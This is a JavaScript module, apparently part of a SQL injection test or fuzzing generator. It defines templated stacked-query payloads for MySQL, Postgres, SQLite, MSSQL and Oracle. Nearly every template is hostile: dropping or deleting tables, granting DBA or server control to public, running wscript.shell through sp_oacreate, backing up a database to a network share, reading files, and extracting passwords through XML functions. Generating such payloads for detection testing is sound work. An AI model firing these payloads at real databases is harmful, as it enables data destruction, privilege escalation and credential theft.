import { WHERE_PLACES } from '../place.js';
import { sqlGenerator } from '../sql-generator.js';

/** Statements hidden in other statements: prepared from hexadecimal, anonymous blocks, xml and dynamic queries. */
export const procedural = sqlGenerator({
  name: 'procedural',
  places: WHERE_PLACES,
  rules: { and: ['and', 'OR', 'or'] },
  byDialect: {
    mysql: {
      start: [
        '{open};set @{tag:v}=0x53454c45435420{scan};prepare {tag:s} from @{tag:v};execute {tag:s};{comment}',
        "{open};set @{tag:v}=concat('sel','ect 1');prepare {tag:s} from @{tag:v};execute {tag:s}{comment}",
        "{open};execute immediate 'select {digit}'{comment}",
        '{open};begin not atomic select {secret};end{comment}',
        '{open};do {sleep}{comment}',
        '{open};create procedure {tag}() select 1{comment}',
        '{open};flush tables{comment}',
        '{open};analyze table users{comment}',
      ],
    },
    postgres: {
      start: [
        "{open};do $$begin execute 'drop table messages';end$$;{comment}",
        '{open};prepare {tag:p} as select {secret};execute {tag:p};{comment}',
        "{open} {and} (xpath('/row/c/text()',query_to_xml('select password as c from users limit 1',true,true,'')))[1]::text is not null{close}",
        "{open} {and} (select database_to_xml(true,true,'') is not null){close}",
        '{open};declare {tag:c} cursor for select * from users;{comment}',
        '{open};set role postgres;{comment}',
        '{open};create function {tag:f}() returns int language plpgsql as $$begin return 1;end$$;select {tag:f}(){comment}',
        '{open};listen {tag}{comment}',
        '{open};explain analyze select * from users{comment}',
        '{open};lock table users{comment}',
        '{open};grant all on users to public{comment}',
      ],
    },
    sqlite: {
      start: [
        '{open};create trigger {tag} after insert on messages begin delete from users;end;{comment}',
        '{open};create view {tag} as select * from users{comment}',
        '{open};pragma writable_schema=1{comment}',
        '{open};pragma journal_mode{comment}',
        '{open};reindex{comment}',
        '{open};analyze{comment}',
        '{open};explain select * from users{comment}',
        '{open};alter table users rename to {tag}{comment}',
        '{open};create temp table {tag} as select * from users{comment}',
        '{open};with d as (select id from users) delete from users where id in d{comment}',
      ],
    },
    mssql: {
      start: [
        '{open};exec(char(115)+char(101)+char(108)){comment}',
        "{open};declare @{tag:v} nvarchar(4000)=N'select 1';exec sp_executesql @{tag:v}{comment}",
        "{open};declare @{tag:v} int;exec sp_oacreate 'wscript.shell',@{tag:v} out{comment}",
        "{open};begin try exec xp_regread 'HKLM','x','y' end try begin catch end catch{comment}",
        "{open};backup database master to disk='\\\\{tag}\\x'{comment}",
        '{open};use master;grant control server to public{comment}',
        "{open};bulk insert users from 'c:\\boot.ini'{comment}",
      ],
    },
    oracle: {
      start: [
        "{open};begin execute immediate 'grant dba to public';end;{comment}",
        "{open} {and} (select dbms_xmlgen.getxml('select * from users') from dual) is not null{close}",
        "{open} {and} (select dbms_java.runjava('x') from dual) is not null{close}",
        "{open} {and} (select sys.dbms_export_extension.get_domain_index_tables('a','b','c',{who},'d',1,'e',0) from dual)='x'{close}",
      ],
    },
  },
});
